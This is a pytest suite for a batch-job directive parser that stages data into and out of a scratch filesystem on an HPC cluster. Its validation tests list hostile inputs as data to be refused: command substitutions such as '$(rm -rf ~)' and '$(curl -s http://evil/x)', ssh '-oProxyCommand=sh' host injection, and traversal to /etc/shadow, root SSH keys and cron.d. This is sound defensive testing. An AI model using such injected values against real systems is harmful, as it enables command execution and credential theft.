"""The directive parser, on example scripts and on every malformed form."""

import shlex
from pathlib import Path

import pytest

from scratchkeeper.errors import ConfigError, DirectiveError
from scratchkeeper.planner.directives import DATA_LINE, STAGE_IN, STAGE_OUT, landing, parse_script
from scratchkeeper.transfer.uri import names_data

SCRIPTS = Path(__file__).parent / "scripts"
ROOT = "/scratch"


def parse(name):
    path = SCRIPTS / name
    return parse_script(path.read_text(), str(path), cwd="/home/alice/work", scratch_root=ROOT)


def parse_text(text, name="job.sh", cwd="/scratch/w", scratch_root=ROOT):
    return parse_script(text, name, cwd=cwd, scratch_root=scratch_root)


def test_seed_example_literal_commands_and_continuation():
    parsed = parse("seed004.pbs")
    stage_in = parsed.stage_steps(STAGE_IN)
    assert len(stage_in) == 1
    assert stage_in[0].line == 6
    assert stage_in[0].command == ('hsi -q -A keytab -k my_keytab_file -l user '
                                   '"get /scratch/user/destination_file : input_file"')
    assert parsed.options[STAGE_IN].retries == 2
    assert parsed.options[STAGE_IN].walltime == "00:30:00"
    stage_out = parsed.stage_steps(STAGE_OUT)
    assert stage_out[0].command == "scp /scratch/user/output/ user@destination_host:/home/user/"
    assert parsed.options[STAGE_OUT].job_name == "myjob.offload"
    # the continuation line left the compute script with its directive; each directive line
    # is a comment there, so that the command keeps its line number (8)
    assert parsed.compute_lines == ["#!/bin/bash", "#PBS -N myjob",
                                    "#PBS -l nodes=128,walltime=12:00", *[DATA_LINE] * 4,
                                    "mpirun -np 128 ~/programs/myapp", *[DATA_LINE] * 2]
    assert parsed.dialect == "pbs"
    assert parsed.compute_job["name"] == "myjob"


def test_continuation_with_directive_prefix():
    text = "#!/bin/bash\n#STAGEIN globus-url-copy \\\n#STAGEIN   ftp://h/a \\\n#STAGEIN file:///s/a\nrun\n"
    parsed = parse_text(text, "x.sh")
    assert parsed.steps[0].command == "globus-url-copy ftp://h/a file:///s/a"
    assert parsed.compute_lines == ["#!/bin/bash", *[DATA_LINE] * 3, "run"]


def test_structured_transfers_resolve_schemes():
    parsed = parse("structured.sbatch")
    transfers = [s.transfer for s in parsed.stage_steps(STAGE_IN)]
    assert [t.source.scheme for t in transfers] == ["gsiftp", "https", "scp", "path"]
    assert transfers[1].destination.text.endswith("/")
    assert parsed.options[STAGE_IN].retries == 3
    assert parsed.options[STAGE_IN].retry_delay == 1.0
    assert parsed.options[STAGE_OUT].dependency == "afterok"
    assert parsed.compute_job == {"name": "sim", "qos": "normal", "nodes": "2"}


def test_datawarp_lines():
    parsed = parse("datawarp.sbatch")
    stage_in = parsed.stage_steps(STAGE_IN)
    assert [(s.transfer.source.path, s.transfer.recursive) for s in stage_in] == [
        ("/lus/alice/inputs", True), ("/lus/alice/config.yaml", False)]
    assert parsed.stage_steps(STAGE_OUT)[0].transfer.destination.path == "/lus/alice/results"
    # other #DW lines belong to the compute job
    assert "#DW jobdw type=scratch access_mode=striped capacity=10GiB" in parsed.compute_lines


def test_pbs_w_stagein_and_stageout():
    parsed = parse("pbs-w.pbs")
    stage_in = parsed.stage_steps(STAGE_IN)
    assert [(s.transfer.source.text, s.transfer.destination.path) for s in stage_in] == [
        ("fileserver:/export/bob/in.dat", "/scratch/bob/in.dat"),
        ("fileserver:/export/bob/b.dat", "/scratch/bob/b.dat")]
    assert parsed.stage_steps(STAGE_OUT)[0].transfer.destination.text == "fileserver:/export/bob/out.dat"
    assert not any("stagein" in line or "stageout" in line for line in parsed.compute_lines)


def test_pbs_w_keeps_other_attributes():
    text = "#!/bin/sh\n#PBS -W depend=afterok:12,stagein=/scratch/a@h:/r/a\nrun\n"
    parsed = parse_text(text, "x.pbs")
    assert "#PBS -W depend=afterok:12" in parsed.compute_lines
    assert len(parsed.steps) == 1


@pytest.mark.parametrize("line, kept", [
    ("#PBS -N run -W stagein=/scratch/a@h:/r/a", "#PBS -N run"),
    ("#PBS -l nodes=1\t-W stagein=/scratch/a@h:/r/a,depend=afterok:1",
     "#PBS -l nodes=1 -W depend=afterok:1"),
    ("#PBS -N my-Wjob -W stagein=/scratch/a@h:/r/a", "#PBS -N my-Wjob"),
])
def test_pbs_w_after_other_options_is_read_too(line, kept):
    parsed = parse_text(f"#!/bin/sh\n{line}\nrun\n", "x.pbs")
    assert [s.transfer.destination.path for s in parsed.steps] == ["/scratch/a"]
    assert parsed.compute_lines == ["#!/bin/sh", kept, "run"]


def test_pbs_w_after_other_options_is_checked_like_the_rest():
    expect_error("#!/bin/sh\n#PBS -N run -W stagein=/etc/cron.d/x@h:/r/x\nrun\n",
                 "#PBS -W stagein: the destination /etc/cron.d/x is outside the scratch root", 2)


def test_relative_paths_resolve_against_the_submit_directory():
    text = "#!/bin/sh\n#STAGEIN http://h/x.dat data/x.dat\nrun\n"
    parsed = parse_text(text, "x.sh", cwd="/scratch/a/w")
    assert parsed.steps[0].transfer.destination.path == "/scratch/a/w/data/x.dat"


@pytest.mark.parametrize("line, message", [
    ("#STAGEIN", "with nothing after it"),
    ("#STAGEIN -retry", "-retry needs a value"),
    ("#STAGEIN -retry two", "-retry expects a whole number"),
    ("#STAGEIN -retry 2 -retry 3", "given twice"),
    ("#STAGEIN -bogus 1", "unknown option '-bogus'"),
    ("#STAGEIN -retry-delay -1", "-retry-delay expects seconds"),
    ("#STAGEIN -walltime soon", "-walltime expects a time"),
    ("#STAGEIN -name 'a b'", "-name expects letters"),
    ("#STAGEIN -qos $(id)", "-qos expects letters"),
    ("#STAGEIN -dependency afterok", "-dependency applies to #STAGEOUT only"),
    ("#STAGEOUT -dependency before", "-dependency expects afterok or afterany"),
    ("#STAGEIN -retry 2 cp a b", "expected an option, got 'cp'"),
    ("#STAGEIN s3://bucket/key /scratch/x", "unknown URI scheme 's3://'"),
    ("#STAGEIN http://h/x http://h/y", "the destination must be a path on this cluster"),
    ("#STAGEOUT http://h/x /scratch/y", "the source must be a path on this cluster"),
    ("#STAGEIN http:///nohost /scratch/x", "URI without a host"),
    ("#STAGEIN /a/b /a/b", "same file"),
    ("#STAGEIN cp 'unclosed /a /b", "cannot split the line"),
    ("#DW stage_in source=/a type=file", "missing destination="),
    ("#DW stage_in source=/a destination=/b type=fifo", "type must be file or directory"),
    ("#DW stage_in source=/a destination=/b type=file mode=x", "unknown key 'mode'"),
    ("#DW stage_in /a /b", "expected key=value"),
    ("#PBS -W stagein=/scratch/x", "expected local_file@host:remote_file"),
    ("#STAGEIN ~/in.dat /scratch/x", "'~' is not expanded"),
    ("#STAGEIN http://h/dir/ /scratch/d/ \\", "continues past the end"),
])
def test_malformed_directive_names_file_and_line(line, message):
    text = f"#!/bin/bash\n#SBATCH -N 1\n{line}\nsrun app\n"
    if line.endswith("\\"):
        text = f"#!/bin/bash\n#SBATCH -N 1\nsrun app\n{line}"
    with pytest.raises(DirectiveError) as info:
        parse_text(text)
    assert message in str(info.value)
    assert str(info.value).startswith("job.sh:")
    assert info.value.line in (3, 4)


def test_script_with_only_directives_is_refused():
    with pytest.raises(DirectiveError, match="no commands for the compute job"):
        parse_text("#!/bin/bash\n#STAGEIN http://h/a /scratch/a\n", "only.sh")


def test_nul_byte_is_refused_with_its_line():
    with pytest.raises(DirectiveError) as info:
        parse_text("#!/bin/bash\nrun\nx\x00y\n", "bin.sh")
    assert info.value.line == 3


# --- a transfer is exactly SOURCE DESTINATION; a name is data, never a command -----------------

def expect_error(text, message, line, **kwargs):
    with pytest.raises(DirectiveError) as info:
        parse_text(text, **kwargs)
    assert message in str(info.value), str(info.value)
    assert str(info.value).startswith(f"job.sh:{line}: "), str(info.value)
    assert "\n" not in str(info.value)
    return info.value


@pytest.mark.parametrize("line", [
    "#STAGEIN gsiftp://host/$(cmd arg) /scratch/a",               # the example
    "#STAGEIN gsiftp://host/$(rm -rf ~) /scratch/a",
    "#STAGEIN gsiftp://h/`touch PWNED` /scratch/a",                # backticks with a space
    "#STAGEIN gsiftp://h/a;touch /tmp/PWNED /scratch/a",           # ; then more words
    "#STAGEIN gsiftp://h/a | sh /scratch/a",                       # a pipe
    "#STAGEIN https://h/a && touch PWNED /scratch/a",
    "#STAGEIN /home/alice/in.dat /scratch/a extra",                # three words
    "#STAGEIN gsiftp://h/a",                                       # one word
    "#STAGEIN ./fetch.sh --all --quiet",                           # a path first: data
    "#STAGEIN alice@login.example.org:/r/a /scratch/a ; id",
    "#STAGEIN login.example.org:params.nml /scratch/a x",          # host:path, no slash
    "#STAGEIN file:///etc/hosts /scratch/a $(id)",
    "#STAGEOUT /scratch/a/out gsiftp://h/$(id -u)",
    "#STAGEOUT /scratch/a/out.h5",
])
def test_a_first_word_that_names_data_makes_a_transfer_of_exactly_two_words(line):
    expect_error(f"#!/bin/bash\n{line}\nsrun app\n", "a transfer is exactly SOURCE DESTINATION", 2)


def test_a_continuation_line_cannot_smuggle_a_command_into_a_transfer():
    for second in ("touch /tmp/PWNED", "#STAGEIN touch /tmp/PWNED"):
        expect_error(f"#!/bin/bash\n#STAGEIN gsiftp://h/a \\\n{second}\nsrun app\n",
                     "a transfer is exactly SOURCE DESTINATION", 2)


def test_the_docs_example_with_a_trailing_comment_is_a_transfer():
    parsed = parse_text("#!/bin/bash\n#STAGEIN ftp://127.0.0.1:2811/data/table.dat "
                        "/scratch/alice/run42/    # trailing / : a folder\nsrun app\n")
    (step,) = parsed.steps
    assert step.command is None
    assert step.transfer.source.text == "ftp://127.0.0.1:2811/data/table.dat"
    assert landing(step.transfer) == "/scratch/alice/run42/table.dat"


@pytest.mark.parametrize("line, source, destination", [
    ('#STAGEIN "gsiftp://h/my file.h5" /scratch/a/', "gsiftp://h/my file.h5",
     "/scratch/a/my file.h5"),
    ("#STAGEIN 'gsiftp://h/$(rm -rf ~)' /scratch/a/x", "gsiftp://h/$(rm -rf ~)", "/scratch/a/x"),
    ("#STAGEIN gsiftp://h/`id` /scratch/a/x", "gsiftp://h/`id`", "/scratch/a/x"),
    ("#STAGEIN gsiftp://h/a|b /scratch/a/x # a|b is a name", "gsiftp://h/a|b", "/scratch/a/x"),
    ("#STAGEIN http://h/a#frag /scratch/a/x", "http://h/a#frag", "/scratch/a/x"),
    ("#STAGEIN gsiftp://h/a\\ #b /scratch/a/x", "gsiftp://h/a #b", "/scratch/a/x"),
    ("#STAGEIN 'gsiftp://h/a #b' /scratch/a/x # c", "gsiftp://h/a #b", "/scratch/a/x"),
    ("#STAGEIN login.example.org:params.nml /scratch/a/p.nml", "login.example.org:params.nml",
     "/scratch/a/p.nml"),
    ("#STAGEIN /home/alice/mesh.bin /scratch/a/mesh.bin   # or file:///home/...",
     "/home/alice/mesh.bin", "/scratch/a/mesh.bin"),
])
def test_names_are_data(line, source, destination):
    (step,) = parse_text(f"#!/bin/bash\n{line}\nsrun app\n").steps
    assert step.command is None
    assert (step.transfer.source.text, landing(step.transfer)) == (source, destination)


def test_a_result_named_without_a_slash_is_still_sent_to_its_uri():
    (step,) = parse_text("#!/bin/bash\nrun\n#STAGEOUT out.h5 gsiftp://h/r/out.h5\n",
                         cwd="/scratch/alice").steps
    assert step.transfer.source.path == "/scratch/alice/out.h5"


@pytest.mark.parametrize("line", [
    "#STAGEIN $(curl -s http://evil/x) /scratch/a",
    "#STAGEIN `id` /scratch/a",
    "#STAGEIN \"hsi get x\"",
    "#STAGEIN FOO=1 hsi get x",
    "#STAGEIN (hsi get x)",
])
def test_a_literal_command_starts_with_a_command_name(line):
    expect_error(f"#!/bin/bash\n{line}\nsrun app\n", "a command starting with its name", 2)


def test_literal_commands_still_run_as_written():
    text = ("#!/bin/bash\n#STAGEIN globus-url-copy -p 4 gsiftp://h/a file:///scratch/a/x\n"
            "#STAGEIN cd /scratch/a && hsi -q \"get x : y\"  # a comment bash drops itself\n"
            "srun app\n")
    assert [s.command for s in parse_text(text).steps] == [
        "globus-url-copy -p 4 gsiftp://h/a file:///scratch/a/x",
        'cd /scratch/a && hsi -q "get x : y"  # a comment bash drops itself']


def test_option_lines_may_end_in_a_comment():
    parsed = parse_text("#!/bin/bash\n#STAGEIN -retry 2   # two more tries\nrun\n")
    assert parsed.options[STAGE_IN].retries == 2


# --- the local side on scratch lies inside storage.scratch_root -----------------------------

@pytest.mark.parametrize("line, message", [
    ("#STAGEIN http://h/a /etc/cron.d/x", "the destination /etc/cron.d/x is outside the scratch"),
    ("#STAGEIN http://h/a /root/.ssh/authorized_keys", "is outside the scratch root"),
    ("#STAGEIN http://h/a /", "the destination /a is outside the scratch root"),
    ("#STAGEIN http://h/a /scratch/../etc/x", "the destination /etc/x is outside"),
    ("#STAGEIN http://h/a ../../etc/x", "the destination /etc/x is outside"),       # cwd /scratch/w
    ("#STAGEIN http://h/a /scratch/w/../../etc/", "the destination /etc/a is outside"),
    ("#STAGEIN http://h/a /scratch2/a", "is outside the scratch root /scratch"),
    ("#STAGEIN http://h/a /scratchy", "is outside the scratch root /scratch"),
    ("#STAGEIN http://h/a file:///etc/x", "the destination /etc/x is outside"),
    ("#STAGEIN /scratch/a /home/alice/a", "the destination /home/alice/a is outside"),
    ("#STAGEIN http://h/a/.. /scratch/x/", "names no file to put in the folder"),
    ("#STAGEIN http://h/%2e%2e /scratch/x/", "names no file to put in the folder"),
    ("#STAGEOUT /etc/shadow gsiftp://h/x", "the source /etc/shadow is outside"),
    ("#STAGEOUT ../../root/.ssh/id_rsa gsiftp://h/x", "the source /root/.ssh/id_rsa is outside"),
    ("#STAGEOUT /scratch gsiftp://h/x/", "is the scratch root /scratch itself"),
    ("#STAGEOUT /scratch/. gsiftp://h/x/", "is the scratch root /scratch itself"),
    ("#DW stage_in source=/lus/a destination=/etc/x type=file",
     "#DW stage_in: the destination /etc/x"),
    ("#DW stage_in source=/lus/a destination=/scratch type=directory",
     "the scratch root /scratch itself"),
    ("#DW stage_out source=/home/a/x destination=/lus/x type=file",
     "#DW stage_out: the source /home/a/x"),
    ("#PBS -W stagein=/etc/x@h:/r/x", "#PBS -W stagein: the destination /etc/x is outside"),
    ("#PBS -W stagein=../../x@h:/r/x", "the destination /x is outside"),
    ("#PBS -W stageout=/root/x@h:/r/x", "#PBS -W stageout: the source /root/x is outside"),
    ("#STAGEIN -input /etc/passwd", "the input /etc/passwd is outside"),
    ("#STAGEIN -input ../../etc/passwd", "the input /etc/passwd is outside"),
    ("#STAGEIN -input /scratch", "the scratch root /scratch itself"),
])
def test_scratch_side_must_lie_inside_the_scratch_root(line, message):
    expect_error(f"#!/bin/bash\n{line}\nsrun app\n", message, 2)


def test_scratch_root_and_dot_are_folders():
    parsed = parse_text("#!/bin/bash\n#STAGEIN http://h/a.dat /scratch\n"
                        "#STAGEIN http://h/b.dat /scratch/alice/.\n"
                        "#STAGEIN http://h/c.dat /scratch/alice/run/..\n"
                        "#DW stage_in source=/lus/d destination=/scratch/alice/d/. type=directory\n"
                        "srun app\n")
    assert [landing(s.transfer) for s in parsed.steps] == [
        "/scratch/a.dat", "/scratch/alice/b.dat", "/scratch/alice/c.dat", "/scratch/alice/d"]


def test_a_symbolic_link_out_of_the_scratch_root_is_refused(tmp_path):
    root = tmp_path / "scratch"
    (root / "alice").mkdir(parents=True)
    outside = tmp_path / "etc"
    outside.mkdir()
    (root / "alice" / "link").symlink_to(outside)
    (root / "alice" / "inner").symlink_to(root / "alice")
    for line in (f"#STAGEIN http://h/a {root}/alice/link/x",
                 f"#STAGEIN http://h/a {root}/alice/link/",
                 f"#STAGEOUT {root}/alice/link/secret gsiftp://h/x",
                 f"#STAGEIN -input {root}/alice/link/x"):
        expect_error(f"#!/bin/bash\n{line}\nsrun app\n", f"leads outside the scratch root {root} "
                     "through a symbolic link", 2, scratch_root=str(root), cwd=str(root))
    # a link that stays inside is fine
    (step,) = parse_text(f"#!/bin/bash\n#STAGEIN http://h/a {root}/alice/inner/x\nrun\n",
                         scratch_root=str(root)).steps
    assert landing(step.transfer) == f"{root}/alice/inner/x"


def test_a_relative_scratch_root_is_a_config_error():
    with pytest.raises(ConfigError, match="storage.scratch_root must be an absolute path"):
        parse_text("#!/bin/bash\nrun\n", scratch_root="scratch")


# --- hosts, CR LF, bounds ---------------------------------------------------------------------

@pytest.mark.parametrize("line, message", [
    ("#PBS -W stagein=/scratch/a@-oProxyCommand=sh:/r/a",
     "'-oProxyCommand=sh' is not a host name"),
    ("#PBS -W stagein=/scratch/a@-v:/r/a", "'-v' is not a host name"),
    ("#PBS -W stagein=/scratch/a@h=x:/r/a", "'h=x' is not a host name"),
    ("#PBS -W stagein=/scratch/a@u@-F/x:/r/a", "not a host name"),
    ("#PBS -W stagein=/scratch/a@h$(id):/r/a", "is not a host name"),
    ("#PBS -W stageout=/scratch/a@-oProxyCommand=sh:/r/a", "is not a host name"),
    ("#STAGEIN -oProxyCommand=sh:/r/a /scratch/a", "unknown option"),
    ("#STAGEIN x-oProxyCommand=sh:/r/a /scratch/a", "'x-oProxyCommand=sh' is not a host name"),
    ("#STAGEIN gsiftp://-oProxy=sh/a /scratch/a", "is not a host name"),
    ("#STAGEIN 'gsiftp://h h/a' /scratch/a", "'h h' is not a host name"),
    ("#STAGEIN ftp://h:99999/a /scratch/a", "malformed URI"),
    ("#STAGEOUT /scratch/a -x@h:/r", "'-x' is not a user name"),
    ("#STAGEOUT /scratch/a u@-x:/r", "'-x' is not a host name"),
    ("#DW stage_in source=-x:/r destination=/scratch/a type=file", "'-x' is not a host name"),
])
def test_hosts_are_host_names(line, message):
    expect_error(f"#!/bin/bash\n{line}\nsrun app\n", message, 2)


@pytest.mark.parametrize("text, line", [
    ("#!/bin/bash\r\n#STAGEIN http://h/a /scratch/a\r\nsrun app\r\n", 1),
    ("#!/bin/bash\n#STAGEIN http://h/a /scratch/a\r\nsrun app\n", 2),
    ("#!/bin/bash\n#SBATCH -N 1\nsrun app\r\n", 3),
])
def test_carriage_returns_are_refused(text, line):
    expect_error(text, "carriage return (DOS line breaks? convert with dos2unix)", line)


@pytest.mark.parametrize("option, message", [
    ("-retry 101", "from 0 to 100"),
    ("-retry " + "9" * 5000, "from 0 to 100"),
    ("-retry \u00b2", "from 0 to 100"),
    ("-retry \u0663", "from 0 to 100"),
    ("-retry-delay nan", "seconds from 0 to 86400"),
    ("-retry-delay inf", "seconds from 0 to 86400"),
    ("-retry-delay 1_0", "seconds from 0 to 86400"),
    ("-retry-delay 86401", "seconds from 0 to 86400"),
    ("-priority 99999999999999999999", "an integer from -1024 to 4294967294"),
    ("-priority " + "9" * 5000, "an integer from -1024 to 4294967294"),
    ("-priority \u0663", "an integer from -1024 to 4294967294"),
    ("-priority -2000", "an integer from -1024 to 4294967294"),
    ("-walltime 0", "a time above zero"),
    ("-walltime 00:00:00", "a time above zero"),
    ("-walltime 0-0", "a time above zero"),
    ("-walltime 99999999999", "a time above zero and at most 365 days"),
    ("-walltime 400-00:00:00", "at most 365 days"),
    ("-walltime 1:99:00", "at most 365 days, like 30"),
    ("-walltime 1-24:00:00", "at most 365 days, like 30"),
    ("-walltime \u0661\u0662", "at most 365 days, like 30"),
    ("-name -x", "not starting with -"),
    ("-qos --x", "not starting with -"),
])
def test_numeric_and_header_values_have_bounds(option, message):
    expect_error(f"#!/bin/bash\n#STAGEIN {option}\nsrun app\n", message, 2)


def test_walltime_forms_in_bounds_are_kept():
    for value in ("30", "30:00", "01:30:00", "1-0", "1-12:00", "1-00:00:00", "365-00:00:00"):
        assert parse_text(f"#!/bin/bash\n#STAGEIN -walltime {value}\nrun\n").options[
            STAGE_IN].walltime == value


# --- two transfers to one destination ----------------------------------------------------------

@pytest.mark.parametrize("first, second, message", [
    ("#STAGEIN http://h/a /scratch/x", "#STAGEIN ftp://h/b /scratch/x",
     "#STAGEIN: the destination /scratch/x is also the destination of line 2"),
    ("#STAGEIN http://h/a /scratch/w/x", "#STAGEIN ftp://h/b x",                 # relative
     "is also the destination of line 2"),
    ("#STAGEIN http://h/a /scratch/d/x", "#STAGEIN ftp://h/b/x /scratch/./d/e/../",
     "/scratch/d/x is also the destination of line 2"),
    ("#STAGEIN http://h/in.dat /scratch/alice/in.dat",
     "#PBS -W stagein=/scratch/alice/in.dat@h:/r/in.dat",
     "#PBS -W stagein: the destination /scratch/alice/in.dat is also the destination of line 2"),
    ("#DW stage_in source=/lus/in destination=/scratch/alice/in type=directory",
     "#STAGEIN http://h/x /scratch/alice/in/sub/x",
     "lies inside /scratch/alice/in, the destination of line 2"),
    ("#STAGEIN http://h/x /scratch/alice/in/x",
     "#DW stage_in source=/lus/in destination=/scratch/alice/in type=directory",
     "#DW stage_in: the destination /scratch/alice/in holds /scratch/alice/in/x"),
    ("#STAGEIN http://h/x /scratch/alice/in", "#STAGEIN http://h/y /scratch/alice/in/",
     "lies inside /scratch/alice/in"),
    ("#STAGEOUT /scratch/a/out.h5 gsiftp://h/results/",
     "#STAGEOUT /scratch/b/out.h5 gsiftp://H/results/out.h5",
     "#STAGEOUT: the destination gsiftp://H/results/out.h5 is also the destination of line 2"),
])
def test_two_transfers_to_one_destination_are_refused(first, second, message):
    expect_error(f"#!/bin/bash\n{first}\n{second}\nsrun app\n", message, 3)


def test_distinct_destinations_are_fine():
    parsed = parse_text("#!/bin/bash\n#STAGEIN http://h/a /scratch/a\n"
                        "#STAGEIN http://h/b /scratch/ab\n"
                        "#STAGEIN http://h/c /scratch/c/\n#STAGEIN http://h/d /scratch/c/\n"
                        "srun app\n#STAGEOUT /scratch/a gsiftp://h/r/a\n"
                        "#STAGEOUT /scratch/ab gsiftp://other/r/a\n")
    assert len(parsed.steps) == 6


# --- every example in the docs parses ----------------------------------------------------------

DOCS = Path(__file__).parents[2] / "docs"


def doc_examples(name):
    """The ``.. code-block:: bash`` blocks of a docs page, each as a list of lines."""
    blocks, current = [], None
    for line in (DOCS / name).read_text().splitlines():
        if line.strip() == ".. code-block:: bash":
            current = []
            blocks.append(current)
        elif current is not None:
            if line.strip() and not line.startswith("   "):
                current = None
            elif line.strip():
                current.append(line[3:])
    return blocks


@pytest.mark.parametrize("index", range(len(doc_examples("directives.rst"))))
def test_every_example_in_the_docs_parses(index):
    block = doc_examples("directives.rst")[index]
    steps_before = sum(1 for line in block if line.startswith(("#STAGE", "#DW", "#PBS -W")))
    parsed = parse_text("#!/bin/bash\n" + "\n".join(block) + "\nsrun app\n",
                        cwd="/scratch/alice")
    assert steps_before and (parsed.steps or any(o.lines for o in parsed.options.values()))
    # and each is what the docs say it is: a line naming data first is a transfer
    for step in parsed.steps:
        assert step.command is None or not names_data(shlex.split(step.command)[0]), step
